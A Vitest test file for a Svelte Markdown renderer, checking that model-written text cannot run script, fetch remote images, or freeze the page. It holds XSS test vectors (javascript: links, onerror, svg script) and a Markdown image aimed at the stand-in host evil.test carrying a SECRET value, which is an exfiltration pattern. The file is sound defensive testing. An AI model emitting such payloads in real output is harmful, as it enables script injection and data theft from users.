import { describe, expect, test } from 'vitest';
import { render } from 'vitest-browser-svelte';
import MarkdownText from '../../src/ui/markdown/MarkdownText.svelte';

async function draw(text: string): Promise<HTMLElement> {
  const { container } = await render(MarkdownText, { text });
  return container.querySelector<HTMLElement>('.markdown')!;
}

describe('what a model writes cannot act on the page', () => {
  test.each([
    ['javascript link', '[x](javascript:alert(1))'],
    ['data link', '[x](data:text/html,<script>1</script>)'],
    ['vbscript link', '[x](vbscript:x)'],
    ['relative link', '[x](/settings)'],
    ['onerror', '<img src=x onerror=alert(1)>'],
    ['entity-split scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
    ['svg with script', '<svg><script>alert(1)</script></svg>'],
    ['link in autolink brackets', '<javascript:alert(1)>'],
  ])('%s is inert text', async (_, source) => {
    const drawn = await draw(source);
    expect(drawn.querySelectorAll('a, img, svg, script')).toHaveLength(0);
    expect(drawn.innerHTML).not.toMatch(/<[^>]*\son\w+=/);
  });

  test('web links open elsewhere and tell nobody where they came from', async () => {
    const link = (await draw('[docs](https://example.org/a?b=c)')).querySelector('a')!;
    expect(link.href).toBe('https://example.org/a?b=c');
    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer']);
  });

  test('a file name is not an address, a bare https address is', async () => {
    const links = (await draw('see main.py, e.g. and https://example.org/x')).querySelectorAll('a');
    expect([...links].map(({ href }) => href)).toEqual(['https://example.org/x']);
  });
});

describe('a remote image is never fetched', () => {
  test('it stands as a link that names its host', async () => {
    const drawn = await draw('![plan](https://evil.test/?q=SECRET)');
    expect(drawn.querySelector('img')).toBeNull();
    const stand = drawn.querySelector<HTMLAnchorElement>('a.image')!;
    expect(stand.textContent).toBe('Image “plan” on evil.test, not loaded');
    expect(stand.rel).toBe('noopener noreferrer');
    const fetched = performance.getEntriesByType('resource').map(({ name }) => name);
    expect(fetched.filter((name) => name.includes('evil.test'))).toEqual([]);
  });

  test('inside a link it does not nest links', async () => {
    const drawn = await draw('[![alt](https://a.test/i.png)](https://b.test/)');
    expect(drawn.querySelectorAll('a a')).toHaveLength(0);
    expect(drawn.querySelector('a')!.href).toBe('https://b.test/');
    expect(drawn.querySelector('span.image')!.textContent).toContain('a.test');
  });

  test('with a data address it is words only', async () => {
    const drawn = await draw('![dot](data:image/png;base64,AAAA)');
    expect(drawn.querySelectorAll('a, img')).toHaveLength(0);
  });
});

describe('text that trips Markdown', () => {
  test('two prices stay prices', async () => {
    expect((await draw('Tea is $3, cake is $4.')).textContent?.trim()).toBe(
      'Tea is $3, cake is $4.',
    );
  });

  test('formulas keep their backslashes', async () => {
    const shown = (await draw('Let \\(a_1^2 * b * c\\) and \\[d_1\\].')).textContent;
    expect(shown?.trim()).toBe('Let \\(a_1^2 * b * c\\) and \\[d_1\\].');
  });

  test.each([
    ['**「強調」**です', '「強調」'],
    ['**注意：**次', '注意：'],
    ['これは**強調**です', '強調'],
    ['a **b** c', 'b'],
  ])('%s is bold', async (source, bold) => {
    expect((await draw(source)).querySelector('strong')?.textContent).toBe(bold);
  });

  test('stars in Latin text follow the common rule', async () => {
    expect((await draw('2 * 3 * 4')).querySelector('em, strong')).toBeNull();
  });

  test('half an emoji and NUL do not crash', async () => {
    expect((await draw('a \ud83d b')).textContent).toContain('a');
    expect((await draw('[x](https://e.test/\ud83d) \0')).textContent).toContain('x');
  });

  test('each paragraph finds its own direction, code stays left to right', async () => {
    const drawn = await draw('مرحبا\n\nhello\n\n```js\nlet a = 1\n```\n');
    expect([...drawn.querySelectorAll('p')].map((p) => p.dir)).toEqual(['auto', 'auto']);
    expect(drawn.querySelector<HTMLElement>('.code')!.dir).toBe('ltr');
  });

  test('headings in an answer never outrank the page', async () => {
    const drawn = await draw('# a\n\n## b\n\n##### c');
    const levels = [...drawn.querySelectorAll('h1, h2, h3, h4, h5')].map((h) => h.localName);
    expect(levels).toEqual(['h3', 'h3', 'h4']);
  });

  test('table cells keep their alignment without inline styles', async () => {
    const drawn = await draw('| a | b |\n|:-:|--:|\n| 1 | 2 |');
    expect([...drawn.querySelectorAll('td')].map((td) => td.className)).toEqual([
      'align-center',
      'align-right',
    ]);
    expect(drawn.querySelector('[style]')).toBeNull();
  });
});

describe('what a looping small model writes does not freeze the page', () => {
  const timed = async (source: string): Promise<[HTMLElement, number]> => {
    const start = performance.now();
    const drawn = await draw(source);
    void drawn.offsetHeight;
    return [drawn, performance.now() - start];
  };
  /** Generous: two shared cores. Without the caps these take seconds or lose text. */
  const FREEZE_MS = 1500;

  test('a list nested 400 deep keeps all its text', async () => {
    const source = Array.from({ length: 400 }, (_, i) => `${'  '.repeat(i)}- item${i}`).join('\n');
    const [drawn, ms] = await timed(source);
    drawn.querySelector('button')?.click();
    await expect.poll(() => drawn.textContent).toContain('item399');
    expect(ms).toBeLessThan(FREEZE_MS);
  });

  test('a quotation nested 800 deep keeps its text', async () => {
    const [drawn, ms] = await timed(`${'> '.repeat(800)}deep`);
    expect(drawn.textContent).toContain('deep');
    expect(ms).toBeLessThan(FREEZE_MS);
  });

  test('one line of 200,000 characters is wrapped and cut until asked for', async () => {
    const [drawn, ms] = await timed('x'.repeat(200_000));
    expect(ms).toBeLessThan(FREEZE_MS);
    expect(drawn.scrollWidth).toBeLessThanOrEqual(drawn.clientWidth);
    const more = drawn.querySelector('button')!;
    expect(more.textContent).toBe('Show all 200,000 characters');
    more.click();
    await expect.poll(() => drawn.textContent?.length).toBeGreaterThanOrEqual(200_000);
  });

  test('a code block of 20,000 lines is cut until asked for', async () => {
    const [drawn, ms] = await timed(`\`\`\`\n${'let a = 1\n'.repeat(20_000)}\`\`\``);
    expect(ms).toBeLessThan(FREEZE_MS);
    expect(drawn.querySelectorAll('.code')).toHaveLength(1);
    expect(drawn.querySelector('code')!.textContent.length).toBeLessThan(25_000);
    expect(drawn.querySelector('.markdown > button')?.textContent).toMatch(/^Show all/);
  });

  test.each([
    ['brackets', '['.repeat(20_000)],
    ['stars', '*a **b '.repeat(3000)],
    ['backticks', Array.from({ length: 300 }, (_, i) => '`'.repeat(i + 1)).join(' ')],
    ['images', '!['.repeat(5000)],
    ['pipes', `${'|'.repeat(2000)}\n${'|-'.repeat(2000)}`],
  ])('%s without end', async (_, source) => {
    const [, ms] = await timed(source);
    expect(ms).toBeLessThan(FREEZE_MS);
  });
});
